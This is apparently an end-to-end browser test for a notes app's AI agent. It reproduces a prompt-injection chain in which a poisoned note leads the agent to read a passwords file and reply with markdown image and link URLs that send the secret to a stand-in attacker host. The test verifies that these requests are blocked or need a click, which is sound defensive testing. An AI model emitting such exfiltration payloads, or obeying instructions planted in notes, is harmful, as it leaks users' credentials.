/**
 * Issue 25's injection chain, end to end in Chromium: a note hides instructions in an HTML
 * comment; asked for a summary, the agent reads it and Private/Passwords.md on its own (reads run
 * without asking), and the scripted reply ends in an image and a link that carry the password.
 * Every request that leaves 127.0.0.1 is recorded and aborted: none goes out without a click, the
 * flagged link shows its destination on keyboard focus as on hover and asks first, the page's own
 * scripts and styles live with its CSP, the token is gone from the address bar after load (a
 * reload still works, through the cookie), and the headers are there. (Failed before: the link was live with its href, the page sent no CSP and kept the token.)
 */
import type { Browser, BrowserContext, ConsoleMessage } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { reply } from "../../src/sandbox/model-server";
import { chromiumPath, launchChromium } from "./support/browser";
import { eventually, openNote, pane, sendMessage, visible } from "./support/page-actions";
import { checkPane } from "./support/pane-check";
import { withE2E } from "./support/sandbox-harness";
import { mainAndApply } from "./support/scripts";
import { ATTACKER, POISONED_NOTE, POISONED_PATH, SECRET, SECRET_NOTE, SECRET_PATH } from "../support/injection";

const PIXEL = `http://${ATTACKER}/pixel.png?d=${SECRET}`;
const SOURCE = `https://${ATTACKER}/notes?d=${SECRET}`;
const REPLY = [
	"Here is your summary: the garden shed budget was discussed.",
	"",
	`<img src="http://${ATTACKER}/raw.png"> <iframe src="https://${ATTACKER}/frame"></iframe>`,
	"",
	`Read [the source](${SOURCE}).`,
	"",
	`![](${PIXEL})`,
].join("\n");
const CSP = "default-src 'self'; img-src 'self' data:; connect-src 'self'; frame-ancestors 'none'";

describe.skipIf(!chromiumPath)("a prompt-injected reply in the browser", { timeout: 90_000 }, () => {
	let browser: Browser;
	beforeAll(async () => {
		browser = await launchChromium();
	});
	afterAll(async () => {
		await browser?.close();
	});

	it("sends nothing outside without a click, asks before the flagged link, and keeps the token out of the address bar", async () => {
		const outside: string[] = [];
		const violations: string[] = [];
		const route = async (context: BrowserContext): Promise<void> => {
			await context.route("**/*", async (routed) => {
				const url = new URL(routed.request().url());
				if (url.hostname === "127.0.0.1") return routed.continue();
				outside.push(url.href);
				return routed.abort();
			});
		};
		const script = mainAndApply([
			reply.toolCalls([
				{ id: "call_poisoned", name: "readNote", args: { path: POISONED_PATH } },
				{ id: "call_secret", name: "readNote", args: { path: SECRET_PATH } },
			]),
			reply.text(REPLY),
		]);
		const options = { beforeOpen: route, notes: { [POISONED_PATH]: POISONED_NOTE, [SECRET_PATH]: SECRET_NOTE } };
		await withE2E(
			browser,
			"25-injected-reply",
			script,
			async ({ page, sandbox }) => {
				page.on("console", (message: ConsoleMessage) => {
					if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
				});
				// The token is gone from the address bar and the history once the page has loaded.
				expect(new URL(page.url()).searchParams.has("token")).toBe(false);
				expect(await page.evaluate(() => window.location.href)).not.toContain("token");
				const answer = await page.request.get(sandbox.pageUrl);
				expect(answer.headers()["content-security-policy"]).toBe(CSP);
				expect(answer.headers()["referrer-policy"]).toBe("no-referrer");
				expect(answer.headers()["x-content-type-options"]).toBe("nosniff");

				await sendMessage(page, "Summarise my meeting notes");
				await visible(pane(page).getByText("Here is your summary", { exact: false }));
				// Both reads ran without asking: the reply was written after them.
				await visible(pane(page).getByRole("group", { name: "Image from attacker.example" }));
				// A same-origin round trip after the render: a load started by it has reached the router by now.
				await page.evaluate(() => fetch("/index.html").then((r) => r.text()));
				expect(outside).toEqual([]);
				expect(violations).toEqual([]);
				await expect(
					pane(page).getByText(`<iframe src="https://${ATTACKER}/frame"></iframe>`, { exact: false }).count(),
				).resolves.toBe(1);

				// The link shows where it goes, on keyboard focus as on hover, and asks first: it carries the password.
				const source = pane(page).getByRole("link", { name: "the source" });
				const destination = pane(page).getByText(SOURCE, { exact: true });
				expect(await destination.isVisible()).toBe(false);
				await pane(page).getByRole("button", { name: "Load image from attacker.example" }).focus();
				await page.keyboard.press("Shift+Tab");
				expect(await page.evaluate(() => document.activeElement?.textContent)).toBe("the source");
				await visible(destination);
				await page.keyboard.press("Tab");
				await destination.waitFor({ state: "hidden" });
				await source.hover();
				await visible(destination);
				await source.click();
				const ask = pane(page).getByRole("group", { name: "Open this link?" });
				await visible(ask.getByText(`contains text from`, { exact: false }));
				await checkPane(page, "untrusted-reply-link-question");
				expect(await ask.textContent()).toContain(SECRET_PATH);
				await page.evaluate(() => fetch("/index.html").then((r) => r.text()));
				expect(outside).toEqual([]);
				const popup = page.context().waitForEvent("page");
				await ask.getByRole("button", { name: "Open link" }).click();
				const opened = await popup;
				await eventually(() => expect(outside).toContain(SOURCE));
				await opened.close();
				// The opened tab may try its (aborted) address again; nothing else went out.
				const afterClick = (): string[] => [...new Set(outside)];
				expect(afterClick()).toEqual([SOURCE]);

				// A reload finds the token in the cookie; the note editor (CodeMirror's styles) lives with the CSP too.
				await page.reload();
				await visible(pane(page).getByText("Here is your summary", { exact: false }));
				await openNote(page, "Meeting notes");
				await visible(page.getByText("Discussed the garden shed budget."));
				expect(new URL(page.url()).searchParams.has("token")).toBe(false);
				expect(afterClick()).toEqual([SOURCE]);
				expect(violations).toEqual([]);

				// Load is the user's choice; on this page the CSP still keeps a remote image out.
				await pane(page).getByRole("button", { name: "Load image from attacker.example" }).click();
				await eventually(() => expect(violations.join("\n")).toContain(`${ATTACKER}/pixel.png`));
				await visible(pane(page).getByText("Image from attacker.example could not be loaded"));
				expect(afterClick()).toEqual([SOURCE]);
				await checkPane(page, "untrusted-reply-done");
			},
			options,
		);
	});
});
